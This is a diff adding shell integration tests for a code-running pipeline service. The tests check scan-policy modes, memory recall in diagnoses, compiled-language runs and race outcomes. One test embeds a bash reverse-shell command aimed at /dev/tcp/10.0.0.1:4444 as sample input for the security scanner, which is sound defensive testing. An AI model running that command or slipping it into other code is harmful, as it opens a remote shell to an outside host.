@@ -113,6 +113,73 @@ what_must_not_run_is_not_run() {
 		"scan policy block" "$body"
 }
 
+a_team_says_what_becomes_of_a_scans_findings() {
+	wish='{"task":"run it","files":{"main.py":"import os\nprint(1) or os.path.exists(\"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\")\n"}}'
+	scanned='[.documents[] | select(.kind == "result") | .document | .phase, .scan_policy, (.scan | length), .scan[0].action] | join(" ")'
+	api GET /v1/pipelines/policy
+	is "$(get '"\(.scan) \(.memory)"')" "block true"
+	for how in warn off block; do
+		api PUT /v1/pipelines/policy "{\"scan\":\"$how\"}"
+		is "$code $(get .scan)" "200 $how" "$body"
+		pipeline "$wish"
+		api GET "/v1/pipelines/$(get .run_id)"
+		get "$scanned" >>told
+	done
+	is "$(cat told)" "run warn 1 warn
+run off 0 
+scan block 1 block"
+	api PUT /v1/pipelines/policy '{"scan":"loudly"}'
+	is "$code" 400 "$body"
+	api PUT /v1/pipelines/policy '{"scam":"off"}'
+	is "$code" 400
+	as_key "$editor"
+	api PUT /v1/pipelines/policy '{"scan":"off"}'
+	is "$code" 403
+	api GET /v1/pipelines/policy
+	is "$(get .scan)" block
+	ATOLL_HOST="$url" ATOLL_KEY="$key" atoll pipeline policy --memory sometimes
+	is "$status" 2 "$err"
+	ATOLL_HOST="$url" ATOLL_KEY="$key" atoll pipeline policy
+	has "$out" "scan    block"
+}
+
+what_helped_before_is_shown_to_who_looks_for_a_mistake() {
+	wish='{"task":"repair the tally of pebbles","files":{"main.py":"def pebbles(a, b):\n    return a - b\n"},"examples":[
+		{"call":"pebbles(2, 3)","expected":"5"},{"call":"pebbles(0, 1)","expected":"1"},{"call":"pebbles(5, 5)","expected":"10"}]}'
+	recalled='[.documents[] | select(.kind == "diagnosis") | .document.evidence[] | select(.source == "memory").text] | length'
+	api DELETE /v1/pipelines/memory # what other tests have taught
+	for memory in true true false; do
+		api PUT /v1/pipelines/policy "{\"memory\":$memory}"
+		is "$code" 200 "$body"
+		pipeline "$wish"
+		is "$(get .outcome)" verified "$body"
+		api GET "/v1/pipelines/$(get .run_id)"
+		get "$recalled" >>told
+	done
+	is "$(tr '\n' ' ' <told)" "0 1 0 "
+	api PUT /v1/pipelines/policy '{"memory":true}'
+	api DELETE /v1/pipelines/memory
+	is "$code" 204
+	pipeline "$wish"
+	api GET "/v1/pipelines/$(get .run_id)"
+	is "$(get "$recalled")" 0
+}
+
+calls_are_tried_in_compiled_languages() {
+	for language in go rust java; do
+		case $language in
+		go) file=main.go code='package main\n\nimport \"fmt\"\n\nfunc twice(x []int) []int {\n\tfor i := range x {\n\t\tx[i] *= 2\n\t}\n\treturn x\n}\n\nfunc main() {\n\tfmt.Println(twice([]int{1}))\n}\n' call='twice([]int{1, 4})' ;;
+		rust) file=main.rs code='fn twice(x: Vec<i64>) -> Vec<i64> {\n    x.iter().map(|v| v * 2).collect()\n}\n\nfn main() {\n    println!(\"{:?}\", twice(vec![1]));\n}\n' call='twice(vec![1, 4])' ;;
+		java) file=Main.java code='public class Main {\n    private static int[] twice(int[] x) {\n        for (int i = 0; i < x.length; i++) x[i] *= 2;\n        return x;\n    }\n    public static void main(String[] args) {\n        System.out.println(twice(new int[] {1})[0]);\n    }\n}\n' call='twice(new int[] {1, 4})' ;;
+		esac
+		case $language in java) tool=javac ;; rust) tool=rustc ;; *) tool=go ;; esac
+		command -v $tool >/dev/null || continue
+		pipeline "{\"task\":\"run it\",\"language\":\"$language\",\"files\":{\"$file\":\"$code\"},
+			\"examples\":[{\"call\":\"$call\",\"expected\":\"[2, 8]\"},{\"call\":\"$call\",\"expected\":\"[2, 8]\"}]}"
+		is "$(get .outcome) $(get .attempts)" "verified 1" "$language: $body"
+	done
+}
+
 output_is_bounded_and_keeps_both_ends() {
 	pipeline '{"task":"run it","files":{"main.py":"print(\"first\")\nprint(\"x\" * 1000000)\nprint(\"last\")\n"}}'
 	is "$(get .outcome)" plausible
@@ -219,7 +286,9 @@ a_replay_of_an_attempt_says_whether_it_is_the_same() {
 a_race_takes_the_first_that_passes() {
 	pipeline '{"task":"fix it","race":3,"files":{"main.py":"def add(a, b):\n    return a - b\n"},
 		"examples":[{"call":"add(2, 3)","expected":"5"},{"call":"add(0, 1)","expected":"1"}]}'
-	is "$(get .outcome)" verified "$body"
+	# Two examples: none could be held out.
+	is "$(get .outcome)" plausible "$body"
+	has "$(get '.artifact.files["main.py"]')" "a + b"
 }
 
 the_same_key_makes_one_pipeline() {
